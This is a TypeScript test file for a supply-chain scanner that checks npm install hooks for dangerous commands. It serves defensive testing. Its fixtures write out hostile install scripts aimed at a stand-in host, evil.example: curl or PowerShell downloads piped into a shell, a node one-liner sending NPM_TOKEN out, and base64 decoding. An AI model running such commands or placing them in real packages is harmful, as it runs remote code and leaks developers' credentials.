import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyseInstallScripts } from '../../../../src/scanners/supply-chain/content/analyse.js';

const SOURCE = 'registry: demo@1.0.0';

function rules(scripts: Record<string, string>): string[] {
  return analyseInstallScripts(scripts, SOURCE).issues.map((issue) => `${issue.rule}/${issue.severity}`);
}

describe('analyseInstallScripts', () => {
  it('lists the three install hooks', () => {
    const report = analyseInstallScripts({ preinstall: 'echo a', install: 'echo b', postinstall: 'echo c', test: 'node test.js', prepare: 'tsc' }, SOURCE);
    assert.deepEqual(
      report.hooks.map((hook) => [hook.name, hook.command, hook.file]),
      [
        ['preinstall', 'echo a', SOURCE],
        ['install', 'echo b', SOURCE],
        ['postinstall', 'echo c', SOURCE],
      ],
    );
    assert.deepEqual(report.issues, []);
    assert.deepEqual(report.warnings, []);
  });

  it('flags curl piped into sh', () => {
    const report = analyseInstallScripts({ postinstall: 'curl -fsSL https://evil.example/x.sh | sh' }, SOURCE);
    assert.equal(report.issues.length, 1);
    const [issue] = report.issues;
    assert.equal(issue?.rule, 'download-to-shell');
    assert.equal(issue?.severity, 'critical');
    assert.equal(issue?.file, SOURCE);
    assert.equal(issue?.line, undefined);
    assert.equal(issue?.message, 'postinstall: downloads a script and pipes it into a shell');
    assert.equal(issue?.excerpt, 'curl -fsSL https://evil.example/x.sh | sh');
  });

  it('flags wget and PowerShell downloads', () => {
    assert.deepEqual(rules({ preinstall: 'wget -q http://evil.example/a -O /tmp/a' }), ['script-download/high']);
    assert.deepEqual(rules({ install: 'powershell -c "Invoke-WebRequest https://evil.example/a.exe -OutFile a.exe"' }), ['script-download/high']);
    assert.deepEqual(rules({ postinstall: 'powershell -c "iwr https://evil.example/a.ps1 | iex"' }), ['download-to-shell/critical']);
  });

  it('flags node -e with https', () => {
    assert.deepEqual(rules({ postinstall: `node -e "require('https').get('https://evil.example/'+process.env.NPM_TOKEN)"` }), ['script-download/high']);
    assert.deepEqual(rules({ postinstall: `python3 -c "import urllib.request; urllib.request.urlopen('http://evil.example')"` }), ['script-download/high']);
  });

  it('flags base64 decoding', () => {
    assert.deepEqual(rules({ postinstall: 'echo Y3VybCBldmls | base64 -d > /tmp/x' }), ['install-decode/high']);
  });

  it('flags a pipe into a shell', () => {
    assert.deepEqual(rules({ install: 'cat payload.txt | bash' }), ['pipe-to-shell/high']);
  });

  it('names the files scripts run', () => {
    const report = analyseInstallScripts(
      {
        postinstall: 'node ./scripts/postinstall.js && sh setup.sh',
        preinstall: `node -e "try{require('./postinstall')}catch(e){}"`,
      },
      SOURCE,
    );
    assert.deepEqual(
      report.issues.map((issue) => [issue.rule, issue.severity, issue.message]),
      [
        ['install-runs-file', 'info', 'preinstall: install script runs a file from the package: preinstall runs postinstall'],
        ['install-runs-file', 'info', 'postinstall: install script runs a file from the package: postinstall runs scripts/postinstall.js'],
        ['install-runs-file', 'info', 'postinstall: install script runs a file from the package: postinstall runs setup.sh'],
      ],
    );
  });

  it('follows npm run indirection', () => {
    assert.deepEqual(rules({ postinstall: 'npm run fetch-binary', 'fetch-binary': 'curl -o bin https://evil.example/bin' }), ['script-download/high']);
  });

  it('accepts common native builds', () => {
    for (const command of ['prebuild-install || node-gyp rebuild', 'prebuild-install -r napi || node-gyp rebuild --release', 'node-pre-gyp install --fallback-to-build', 'husky install', 'opencollective-postinstall || true']) {
      assert.deepEqual(rules({ install: command }), [], command);
    }
  });

  it('ignores paths outside the package', () => {
    const report = analyseInstallScripts({ postinstall: 'node ../../evil.js && node /tmp/x.js' }, SOURCE);
    assert.deepEqual(report.issues, []);
  });

  it('masks tokens in excerpts', () => {
    // rampart:ignore reason="made-up token that the excerpt must mask"
    const report = analyseInstallScripts({ postinstall: 'curl -H "Authorization: Bearer npm_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789" https://evil.example/x' }, SOURCE);
    const excerpt = report.issues[0]?.excerpt ?? '';
    assert.ok(excerpt.includes('npm_****'), excerpt);
    assert.ok(!excerpt.includes('AbCdEfGh'), excerpt);
  });
});
